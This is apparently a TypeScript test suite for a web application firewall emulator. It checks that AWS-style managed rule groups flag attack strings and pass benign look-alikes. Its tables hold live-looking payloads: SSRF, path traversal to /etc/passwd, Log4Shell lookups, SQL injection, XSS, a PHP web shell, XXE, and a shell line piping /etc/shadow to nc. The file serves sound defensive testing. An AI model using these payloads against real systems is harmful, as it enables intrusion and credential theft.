// Goal: every rule of every managed group matches what it is for, adds its label, and lets its benign neighbour pass; its capacity and
// labels are AWS's. How web ACLs use the groups is in groups.test.ts.
// Method: for each kind of rule, one text of ours that is an attack and one that is none, put into each part of a request that a rule of
// that kind looks at, with every rule counting. Long, since it is one table of attacks and their neighbours.
import assert from 'node:assert/strict'
import { test } from 'node:test'
import { detectors } from '../injection/index.ts'
import type { WebRequest } from '../request.ts'
import { acl, compiled, get, matches, rule, verdictOf } from '../rig.test.ts'
import { detection } from '../statements/index.ts'
import { type Part, placesOf } from '../texts/index.ts'
import {
  agent,
  bots,
  browse,
  browser,
  carrying,
  core,
  groupNamed,
  groups,
  inputs,
  listed,
  matchedRules,
  posted,
  statementOf,
  worldWith,
} from './rig.test.ts'

const injection = 'RedoubtInjectionRuleSet'

/** Group, what the names of its rules begin with, an attack, its benign neighbour. */
const texts: readonly (readonly [group: string, rules: string, attack: string, benign: string])[] = [
  [core, 'EC2MetaDataSSRF', 'http://169.254.169.254/latest/meta-data/iam/', 'https://docs.example/metadata/'],
  [core, 'GenericLFI', '../../../../etc/passwd', 'reports/2024/etc'],
  [core, 'RestrictedExtensions', 'backup/site.sql', 'release.login'],
  [core, 'GenericRFI', 'http://198.51.100.7/run.txt', 'https://shop.example/run'],
  [core, 'GenericRFI', 'https://shop.example/@evil.com/', 'https://social.example/@anna'],
  [core, 'GenericRFI', 'https://shop.example#@evil.example/', 'https://shop.example/a?to=@anna'],
  [core, 'GenericRFI', 'ftp://files.example/a?', 'ftp or file?'],
  [core, 'CrossSiteScripting', '<img src=x onerror=alert(1)>', 'a < b, and b > c'],
  [inputs, 'JavaDeserializationRCE', 'java.lang.Runtime.getRuntime().exec("id")', 'the java runtime'],
  [inputs, 'Log4JRCE', '${jndi:ldap://203.0.113.9/a}', 'jndi costs ${price}'],
  ['AWSManagedRulesSQLiRuleSet', 'SQLi', "' OR 1=1 -- ", "it's one or two"],
  [
    'AWSManagedRulesSQLiRuleSet',
    'SQLiExtendedPatterns',
    "1' UNION SELECT table_name FROM information_schema.tables -- ",
    'what is in information_schema',
  ],
  [
    'AWSManagedRulesSQLiRuleSet',
    'SQLiExtendedPatterns',
    'x union (select a from b)',
    'the union (selected members) having 1 vote',
  ],
  ['AWSManagedRulesLinuxRuleSet', 'LFI', '../../../../proc/self/environ', 'proc/self-service'],
  ['AWSManagedRulesUnixRuleSet', 'UNIXShellCommandsVariables', '; cat /etc/shadow | mail a', 'cats; mail us'],
  ['AWSManagedRulesWindowsRuleSet', 'WindowsShellCommands', '& cmd.exe /c whoami', 'R & D, type A'],
  [
    'AWSManagedRulesWindowsRuleSet',
    'PowerShellCommands',
    '; powershell -enc SQBFAFgAIAAxADIAMwA=',
    'we learn powershell; then rest',
  ],
  [
    'AWSManagedRulesPHPRuleSet',
    'PHPHighRiskMethodsVariables',
    '<?php system($_GET["c"]); ?>',
    'php is a language',
  ],
  [injection, 'TemplateInjection', '{{7*7}}', '{{name}}'],
  [
    injection,
    'XMLEntities',
    '<!DOCTYPE a [<!ENTITY b SYSTEM "file:///etc/hostname">]><a>&b;</a>',
    '<!DOCTYPE html><p>x</p>',
  ],
  [injection, 'NoSQLInjection', '{"$where": "this.a == 1 || true"}', '{"where": "here"}'],
  [injection, 'LDAPInjection', '*)(uid=*))(|(uid=*', '(see (this) note)'],
  [injection, 'ServerRequest', 'http://127.0.0.1:8080/admin', 'https://shop.example/admin'],
  [injection, 'JavaScriptCode', "require('child_process').execSync('id')", 'a child process is required'],
  [injection, 'ServerInclude', '<!--#exec cmd="id" -->', '<!-- a note -->'],
  [injection, 'HeaderLines', 'x\r\nSet-Cookie: a=b', 'x\r\nand more'],
  [injection, 'HiddenFile', '.git/config', 'git/config'],
  [injection, 'ShellCommand', '; cat /etc/shadow | nc 203.0.113.9 4444', 'cats; and more'],
  [injection, 'PathTraversal', '../../../../etc/passwd', 'reports/2024'],
  [injection, 'PHPCode', '<?php system($_GET["c"]); ?>', 'php is a language'],
  [injection, 'JavaCode', 'java.lang.Runtime.getRuntime().exec("id")', 'the java runtime'],
  [injection, 'LogLookup', '${jndi:ldap://203.0.113.9/a}', 'jndi'],
  [injection, 'SQLInjection', "' OR 1=1 -- ", "it's one or two"],
  [injection, 'CrossSiteScripting', '<img src=x onerror=alert(1)>', 'a < b'],
  [injection, 'Markup', '<b class="x">', 'a <3 b > c'],
  [injection, 'MailCommands', 'x\r\nRCPT TO: <a@b.example>', 'x\r\nreceipt to: me'],
  [injection, 'OperatorsOnly', "'||'", '"*"'],
  [injection, 'OperatorsOnly', '*|', '**'],
  [injection, 'CallbackAddress', 'http://c8f2k1q9z0.calls.example/', 'https://images2024.shop.example/'],
]

const wordPress = 'AWSManagedRulesWordPressRuleSet'
const protocol = 'RedoubtProtocolRuleSet'
const typed = (type: string, body = 'a=1'): WebRequest => ({
  ...browse('/', ['Content-Type', type]),
  method: 'POST',
  body: Buffer.from(body),
})
const form = 'application/x-www-form-urlencoded'
const parts = (head: string): WebRequest =>
  typed('multipart/form-data; boundary=x', `--x\r\n${head}\r\n\r\na\r\n--x--\r\n`)
const named = 'Content-Disposition: form-data; name='
const upload = (name: string): WebRequest => ({
  ...browse('/', ['Content-Type', 'multipart/form-data; boundary=x']),
  method: 'POST',
  body: Buffer.from(
    `--x\r\nContent-Disposition: form-data; name="f"; filename="${name}"\r\n\r\na\r\n--x--\r\n`,
  ),
})

/** Group, rule, a request that it matches, one that it does not. */
const requests: readonly (readonly [group: string, rule: string, attack: WebRequest, benign: WebRequest])[] =
  [
    [core, 'NoUserAgent_HEADER', get('/', { headers: [['Host', 'shop.example']] }), browse('/')],
    [core, 'UserAgent_BadBots_HEADER', agent('sqlmap/1.8'), agent('Mozilla/5.0 sqlmaps')],
    [core, 'SizeRestrictions_QUERYSTRING', browse(`/?${'a'.repeat(2049)}`), browse(`/?${'a'.repeat(2048)}`)],
    [
      core,
      'SizeRestrictions_Cookie_HEADER',
      browse('/', ['Cookie', 'a'.repeat(10_241)]),
      browse('/', ['Cookie', 'a'.repeat(10_240)]),
    ],
    [
      core,
      'SizeRestrictions_BODY',
      { ...browse('/'), body: Buffer.alloc(8_192, 97), bodyCut: true },
      { ...browse('/'), body: Buffer.alloc(8_192, 97) },
    ],
    [core, 'SizeRestrictions_URIPATH', browse(`/${'a'.repeat(1_024)}`), browse(`/${'a'.repeat(1_023)}`)],
    [
      'AWSManagedRulesAdminProtectionRuleSet',
      'AdminProtection_URIPATH',
      browse('/phpMyAdmin/x'),
      browse('/admire'),
    ],
    [inputs, 'Host_localhost_HEADER', get('/', { headers: [['Host', 'localhost:80']] }), browse('/')],
    [inputs, 'PROPFIND_METHOD', { ...browse('/'), method: 'PROPFIND' }, browse('/?a=PROPFIND')],
    [inputs, 'ExploitablePaths_URIPATH', browse('/app/WEB-INF/web.xml'), browse('/app/web.xml.html')],
    [
      wordPress,
      'WordPressExploitableCommands_QUERYSTRING',
      browse('/?do-reset-wordpress'),
      browse('/?q=reset+wordpress'),
    ],
    [wordPress, 'WordPressExploitablePaths_URIPATH', browse('/blog/xmlrpc.php'), browse('/blog/xmlrpc')],
    [injection, 'ExecutableFile_BODY', upload('a.php'), upload('a.png')],
    [
      injection,
      'ExecutableFile_HEADER',
      browse('/', ['X-File-Name', 'a.php']),
      browse('/', ['X-File-Name', 'a.png']),
    ],
    [injection, 'SessionFile_BODY', upload('sess_0123456789abcdef0123'), upload('session_notes')],
    [
      injection,
      'SessionFile_HEADER',
      browse('/', ['X-Filename', 'sess_0123456789abcdef0123']),
      browse('/', ['X-Filename', 'sess_1.txt']),
    ],
    [protocol, 'ContentType_HEADER', typed('form'), typed(form)],
    [
      protocol,
      'ContentType_HEADER',
      typed('text/plain; charset=utf-8; x'),
      typed('text/plain; charset="utf-8"'),
    ],
    [protocol, 'ContentType_HEADER', typed('text/plain; a=1; a=2'), typed('application/vnd.shop+json; v=2')],
    [protocol, 'Charset_HEADER', typed(`${form}; charset=utf-7`), typed(`${form}; charset=ISO-8859-15`)],
    [protocol, 'Boundary_HEADER', typed('multipart/mixed'), typed('multipart/mixed; boundary="a b"')],
    [protocol, 'Boundary_HEADER', typed(`${form}; boundary=x`), typed(form)],
    [
      protocol,
      'ContentEncoding_HEADER',
      browse('/', ['Content-Encoding', 'gzip']),
      { ...browse('/', ['Content-Encoding', 'gzip']), body: Buffer.from('a') },
    ],
    [
      protocol,
      'ContentEncoding_HEADER',
      { ...browse('/', ['Content-Encoding', 'rot13']), body: Buffer.from('a') },
      { ...browse('/', ['Content-Encoding', 'br']), body: Buffer.from('a') },
    ],
    [protocol, 'TurningHeaders_HEADER', browse('/', ['Proxy', 'http://a']), browse('/', ['Via', 'a'])],
    [
      protocol,
      'UntypedBody_BODY',
      { ...browse('/'), method: 'POST', body: Buffer.from('a') },
      typed('text/plain'),
    ],
    [protocol, 'UnexpectedBody_METHOD', { ...typed(form), method: 'HEAD' }, typed(form)],
    [
      protocol,
      'EncodedPart_BODY',
      parts(`${named}"a"\r\nContent-Type: text/plain; charset=utf-7`),
      parts(`${named}"a"\r\nContent-Type: text/plain; charset=utf-8`),
    ],
    [
      protocol,
      'EncodedPart_BODY',
      parts(`${named}"a"\r\nContent-Transfer-Encoding: base64`),
      parts(`${named}"a"\r\nContent-Transfer-Encoding: binary`),
    ],
    [protocol, 'PartNames_BODY', parts(`${named}"a;b"`), parts(`${named}"a[b]"`)],
    [protocol, 'PartNames_BODY', upload('a;b.png'), upload("it's a (b).png")],
    [
      protocol,
      'MalformedJSON_BODY',
      typed('application/json', '{"a": 1'),
      typed('application/json', '{"a": 1}'),
    ],
    [
      protocol,
      'MalformedXML_BODY',
      typed('application/xml', '\u00fe\u00ff\0<\0a\0/\0>'),
      typed('application/soap+xml; charset=utf-8', '\ufeff\n<a/>'),
    ],
    [
      protocol,
      'TwoHosts_QUERYARGUMENTS',
      browse('/?u=http://a%23.b.example/'),
      browse('/?u=http://a/%23.b.c'),
    ],
    [protocol, 'MethodOverride_QUERYARGUMENTS', browse('/?_method=PUT'), browse('/?method=PUT')],
    [
      protocol,
      'MethodOverride_QUERYARGUMENTS',
      { ...typed(form), query: '_method=TRACE' },
      { ...typed(form), query: '_method=delete' },
    ],
    [protocol, 'MalformedEscape_QUERYSTRING', browse('/?a=%xy'), browse('/?a=100%&b=%41')],
    [protocol, 'ControlCharacters_URIPATH', browse('/a%01'), browse('/a%20')],
    [protocol, 'ControlCharacters_QUERYARGUMENTS', browse('/?a=%00'), browse('/?a=%09')],
    [protocol, 'LineEnd_URIPATH', browse('/a%0d%0ab'), browse('/a%20b')],
    [protocol, 'LineEnd_QUERYARGUMENTS', browse('/?a%0ab=1'), browse('/?a=b%0ac')],
    [
      protocol,
      'MessageSplitting_QUERYARGUMENTS',
      browse('/?a=b%0d%0aX-Own:%20c'),
      browse('/?a=b%0d%0ac%0d%0ad'),
    ],
    [protocol, 'MessageSplitting_QUERYARGUMENTS', browse('/?a=b%0dc'), browse('/?a=b%0ac')],
    [
      protocol,
      'MessageSplitting_QUERYARGUMENTS',
      browse('/?a=PUT%20/x%20HTTP/1.1'),
      browse('/?a=put+it+on+HTTP/2'),
    ],
    [protocol, 'EscapedLetters_QUERYARGUMENTS', browse('/?a=%5cu0065val'), browse('/?a=%5cu0026')],
    [protocol, 'EscapedLetters_BODY', posted('\\u0065val'), posted('\\u003cb')],
    [protocol, 'TwoHosts_QUERYARGUMENTS', browse('/?u=http://a%5c@b/'), browse('/?u=http://a@b/')],
    [protocol, 'TwoHosts_BODY', posted('http://a #@b/'), posted('http://a/#@b')],
    [protocol, 'ProxyRequest_URIPATH', browse('/http://a/'), browse('/web/http://a/')],
    [
      protocol,
      'CookieVersion_COOKIE',
      browse('/', ['Cookie', '$Version=1; a="b']),
      browse('/', ['Cookie', 'Version=1']),
    ],
    [
      protocol,
      'SessionFixation_HEADER',
      browse('/?PHPSESSID=1', ['Referer', 'https://other.example/']),
      browse('/?PHPSESSID=1', ['Referer', 'https://shop.example/']),
    ],
    [
      protocol,
      'SessionFixation_HEADER',
      browse('/?jsessionid=1', ['Referer', 'https://shop.example@other.example/']),
      browse('/?session_id=1', ['Referer', 'https://pay.example/']),
    ],
    [
      bots,
      'CategoryAdvertising',
      agent('AdsBot-Google (+http://www.google.com/adsbot.html)'),
      agent(browser),
    ],
    [bots, 'CategoryArchiver', agent('Mozilla/5.0 (compatible; archive.org_bot)'), agent(browser)],
    [bots, 'CategoryContentFetcher', agent('Feedly/1.0'), agent(browser)],
    [bots, 'CategoryEmailClient', agent('YahooMailProxy; https://help.yahoo.com'), agent(browser)],
    [bots, 'CategoryHttpLibrary', agent('curl/8.9'), agent(`${browser} curly`)],
    [bots, 'CategoryLinkChecker', agent('W3C-checklink/5'), agent(browser)],
    [bots, 'CategoryMiscellaneous', agent('ltx71 - (http://ltx71.com/)'), agent(browser)],
    [bots, 'CategoryMonitoring', agent('Mozilla/5.0+(compatible; UptimeRobot/2.0)'), agent(browser)],
    [bots, 'CategoryScrapingFramework', agent('Scrapy/2.11 (+https://scrapy.org)'), agent(browser)],
    [bots, 'CategorySearchEngine', agent('Mozilla/5.0 (compatible; Googlebot/2.1)'), agent(browser)],
    [bots, 'CategorySecurity', agent('Mozilla/5.0 (compatible; CensysInspect/1.1)'), agent(browser)],
    [bots, 'CategorySeo', agent('Mozilla/5.0 (compatible; AhrefsBot/7.0)'), agent(browser)],
    [bots, 'CategorySocialMedia', agent('facebookexternalhit/1.1'), agent(browser)],
    [bots, 'CategoryAI', agent('Mozilla/5.0 (compatible; GPTBot/1.2)'), agent(browser)],
    [bots, 'SignalAutomatedBrowser', agent('Mozilla/5.0 HeadlessChrome/126.0'), agent(browser)],
    [bots, 'SignalNonBrowserUserAgent', agent('shop-app 3'), agent(browser)],
  ]

test('every rule matches what it is for, adds its label, and not its benign neighbour', () => {
  const rows = [
    ...requests,
    ...texts.flatMap(([group, kind, attack, benign]) =>
      groupNamed(group).Rules.flatMap(({ Name }) => {
        const part = Object.keys(carrying).find((one) => Name === `${kind}_${one}`)
        if (part === undefined) return []
        const carry = carrying[part as Part] // Found among the keys of the table.
        return [[group, Name, carry(attack), carry(benign)] as const]
      }),
    ),
  ]
  const ran = new Set<string>()
  for (const [name, ruleName, attack, benign] of rows) {
    const group = groupNamed(name)
    const label = group.Rules.find(({ Name }) => Name === ruleName)?.RuleLabels[0]?.Name
    const found = matchedRules(group, attack)
    assert.ok(found.rules.includes(ruleName), `${ruleName} does not match`)
    assert.ok(found.labels.includes(`${group.LabelNamespace}${label}`), `${ruleName} has no label`)
    const other = matchedRules(group, benign)
    assert.ok(!other.rules.includes(ruleName), `${ruleName} matches the benign neighbour`)
    ran.add(`${name}/${ruleName}`)
  }
  const all = groups.flatMap(({ Name: group, Rules }) =>
    Rules.filter(({ Name }) => !listed.includes(Name)).map(({ Name }) => `${group}/${Name}`),
  )
  assert.deepEqual([...ran].sort(), all.sort(), 'a rule without a row')
})

test("each group's capacity, labels and rules are AWS's", () => {
  // Source: AWS WAF Developer Guide, "AWS Managed Rules rule groups list".
  const facts = [
    [core, 700, 'core-rule-set', 22],
    ['AWSManagedRulesAdminProtectionRuleSet', 100, 'admin-protection', 1],
    [inputs, 200, 'known-bad-inputs', 11],
    ['AWSManagedRulesSQLiRuleSet', 200, 'sql-database', 6],
    ['AWSManagedRulesLinuxRuleSet', 200, 'linux-os', 3],
    ['AWSManagedRulesUnixRuleSet', 100, 'posix-os', 2],
    ['AWSManagedRulesWindowsRuleSet', 200, 'windows-os', 6],
    ['AWSManagedRulesPHPRuleSet', 100, 'php-app', 3],
    [wordPress, 100, 'wordpress-app', 2],
    ['AWSManagedRulesAmazonIpReputationList', 25, 'amazon-ip-list', 3],
    ['AWSManagedRulesAnonymousIpList', 50, 'anonymous-ip-list', 2],
    [bots, 50, 'bot-control', 17],
  ] as const
  for (const [name, capacity, label, rules] of facts) {
    const group = groupNamed(name)
    assert.equal(group.Capacity, capacity, name)
    assert.equal(group.LabelNamespace, `awswaf:managed:aws:${label}:`)
    assert.equal(group.Rules.length, rules, name)
    // Compiling checks that the rules fit the capacity.
    const web = compiled(
      acl([rule('group', 0, statementOf(group), { OverrideAction: { None: {} } })]),
      worldWith(groups),
    )
    assert.equal(web.capacity, capacity)
  }
  assert.equal(facts.length, groups.filter(({ VendorName }) => VendorName === 'AWS').length)
})

test('every detector is asked in every part where it finds anything', () => {
  const attacks = new Map(
    texts.flatMap(([group, kind, attack]) => {
      const named = detectorsOf[`${group}/${kind}`]
      return named === undefined ? [] : [[named, attack] as const]
    }),
  )
  let ran = 0
  for (const { name, places } of detectors) {
    const attack = attacks.get(name)
    if (attack === undefined) continue
    for (const part of Object.keys(placesOf) as Part[]) {
      // The table's keys are the parts.
      if (places !== undefined && !placesOf[part].some((place) => places.includes(place))) continue
      const request = carrying[part](attack)
      if (!matches(detection(part, [name]), request)) continue
      const blocked = verdictOf(
        groups.map((group, at) => rule(group.Name, at, statementOf(group), { OverrideAction: { None: {} } })),
        request,
        worldWith(groups),
      )
      assert.equal(blocked.action.type, 'BLOCK', `${name} in ${part}`)
      ran += 1
    }
  }
  assert.ok(ran >= 60, `${ran} rows`)
})

const detectorsOf: Readonly<Record<string, string>> = {
  [`${core}/GenericLFI`]: 'PathTraversal',
  [`${core}/CrossSiteScripting`]: 'CrossSiteScripting',
  [`${inputs}/JavaDeserializationRCE`]: 'Java',
  [`${inputs}/Log4JRCE`]: 'LogLookup',
  'AWSManagedRulesSQLiRuleSet/SQLi': 'SqlInjection',
  'AWSManagedRulesUnixRuleSet/UNIXShellCommandsVariables': 'ShellCommand',
  'AWSManagedRulesPHPRuleSet/PHPHighRiskMethodsVariables': 'Php',
  [`${injection}/TemplateInjection`]: 'Template',
  [`${injection}/XMLEntities`]: 'XmlEntities',
  [`${injection}/NoSQLInjection`]: 'NoSql',
  [`${injection}/LDAPInjection`]: 'Ldap',
  [`${injection}/ServerRequest`]: 'ServerRequest',
  [`${injection}/JavaScriptCode`]: 'Node',
  [`${injection}/ServerInclude`]: 'ServerInclude',
  [`${injection}/HeaderLines`]: 'HeaderLines',
  [`${injection}/HiddenFile`]: 'HiddenFile',
}
